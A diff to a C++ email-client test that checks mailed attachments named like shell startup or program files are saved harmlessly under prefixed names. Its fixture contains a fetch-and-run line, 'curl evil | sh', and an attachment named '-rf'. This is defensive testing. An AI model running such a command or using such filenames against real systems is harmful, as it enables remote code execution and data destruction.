@@ -409,6 +409,7 @@ TEST_F(RunUnderFire, MailedFilesNamedLikeStartUpOrOwnFilesLandHarmlessly) {
         "Content-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/plain\n\nsee\n"
         "--B\nContent-Type: text/plain; name=\".bash_profile\"\n\ncurl evil | sh\n"
         "--B\nContent-Type: text/plain; name=\"addressbook.lst\"\n\nredirected\n"
+        "--B\nContent-Type: text/plain; name=\"readmsg.pnd\"\n\nin doubt\n"
         "--B\nContent-Type: application/octet-stream; name=\"-rf\"\n"
         "Content-Transfer-Encoding: base64\n\nAAAA\n--B--\n";
     servers().setMails({mail});
@@ -416,6 +417,8 @@ TEST_F(RunUnderFire, MailedFilesNamedLikeStartUpOrOwnFilesLandHarmlessly) {
     w.BitBtn2->click();
     EXPECT_EQ(test::readBytes("_.bash_profile"), "curl evil | sh\r\n");
     EXPECT_EQ(test::readBytes("_addressbook.lst"), "redirected\r\n");
+    EXPECT_EQ(test::readBytes("_readmsg.pnd"), "in doubt\r\n");
+    EXPECT_FALSE(fs::exists("readmsg.pnd"));
     EXPECT_TRUE(fs::exists("_-rf"));
     EXPECT_FALSE(fs::exists(".bash_profile"));
     EXPECT_EQ(test::readBytes("addressbook.lst"), "");
